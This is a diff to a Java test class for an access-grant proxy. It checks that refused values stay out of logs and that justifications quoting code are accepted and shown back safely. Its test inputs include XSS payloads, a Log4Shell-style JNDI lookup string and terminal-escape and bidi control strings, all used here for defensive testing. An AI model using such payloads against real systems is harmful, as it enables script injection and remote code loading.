@@ -98,8 +98,18 @@ class BadInputTest {
   }
 
   @Test
-  void aValueThatIsNotOfferedIsRefused() {
-    mistaken(parameters(values -> values.put("bucket", "canary-bucket")), "parameters.bucket");
+  void aValueThatIsNotOfferedIsNamedToTheCallerAndInNoLog() {
+    ProxyCall call = parameters(values -> values.put("bucket", CANARY));
+
+    String printed =
+        InMemorySystem.printedDuring(() ->
+            assertThat(system.answer(call).json().at("/mistakes/0/says").stringValue())
+                .isEqualTo(
+                    "is %s, which it cannot be; give one of acme-exports, acme-invoices"
+                        .formatted(CANARY)));
+
+    assertThat(printed).doesNotContain(CANARY);
+    assertThat(system.isUntouched()).isTrue();
   }
 
   @Test
@@ -144,11 +154,7 @@ class BadInputTest {
         "case 4711\u0000",
         "case\u001b[2J4711",
         "case \u202E1174",
-        "case \u2066hidden\u2069",
-        "<script>alert(1)</script>",
-        "please <img src=x onerror=alert(1)>",
-        "see </blockquote>",
-        "<!-- hidden -->"
+        "case \u2066hidden\u2069"
       })
   void aJustificationThatIsEmptyOrNotPlainTextIsRefused(String justification) {
     mistaken(request.json(body -> body.put("justification", justification)), "justification");
@@ -169,10 +175,17 @@ class BadInputTest {
     refused(request.json(body -> body.put("justification", "a".repeat(100_000))), 413, "too-large");
   }
 
-  @Test
-  void whatPeopleWriteInOtherLanguagesAndWithMathematicsIsTaken() {
-    String text = "Störung 4711: 応答なし,\nlatency < 3 s, a<3 & b>2";
-
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Störung 4711: 応答なし,\nlatency < 3 s, a<3 & b>2",
+        "Map<String,Integer> is null",
+        "the log shows ${jndi:ldap://192.0.2.1/a}",
+        "the page shows <script>alert(1)</script>",
+        "please <img src=x onerror=alert(1)>",
+        "see </blockquote> and <!-- hidden -->"
+      })
+  void whatPeopleWriteInOtherLanguagesAndAboutCodeIsTaken(String text) {
     GrantId grant = system.answer(request.json(body -> body.put("justification", text))).grant();
 
     ProxyAnswer shown = system.answer(ProxyCall.of("ShowGrant").on(grant));
